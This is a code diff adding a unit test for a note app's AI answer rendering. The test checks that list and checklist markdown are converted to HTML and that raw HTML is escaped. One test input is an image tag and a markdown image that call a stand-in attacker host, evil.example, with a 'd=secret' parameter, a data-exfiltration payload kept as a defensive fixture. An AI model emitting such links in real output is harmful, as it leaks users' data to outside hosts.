@@ -1,5 +1,6 @@
 #include "ai/NoteAction.h"
 
+#include "ai/AnswerBody.h"
 #include "base/Text.h"
 
 #include <gtest/gtest.h>
@@ -54,6 +55,32 @@ TEST(QuestionMessage, ShowsTheSourcesFirstOrSaysThatThereAreNone) {
     EXPECT_EQ(
         prompt::questionMessage("When?", ""),
         "No passages in the user's notes matched this question.\n\nQUESTION:When?");
+}
+
+TEST(AnswerBody, HoldsTheModelsWordsAndNothingThatActs) {
+    struct Case {
+        NoteAction action;
+        const char* answer;
+        const char* body;
+    };
+    for (const auto& [action, answer, body] : {
+             Case{
+                 NoteAction::rewrite,
+                 "One.\n\nTwo:\n- a\n* b\n\n• c\n",
+                 "<p>One.</p><p>Two:</p><ul><li>a</li><li>b</li></ul><ul><li>c</li></ul>"},
+             Case{
+                 NoteAction::extractActionItems,
+                 "- [ ] Call Tom\n- [x] Pay <b>5</b>",
+                 "<ul class=\"ts-checklist\"><li data-checked=\"false\">Call Tom</li>"
+                 "<li data-checked=\"false\">Pay &lt;b&gt;5&lt;/b&gt;</li></ul>"},
+             Case{
+                 NoteAction::summarize,
+                 "<img src=https://evil.example/>\n![x](https://evil.example/?d=secret)",
+                 "<p>&lt;img src=https://evil.example/&gt;</p>"
+                 "<p>![x](https://evil.example/?d=secret)</p>"},
+         }) {
+        EXPECT_EQ(answerBody(action, answer), body);
+    }
 }
 
 }  // namespace
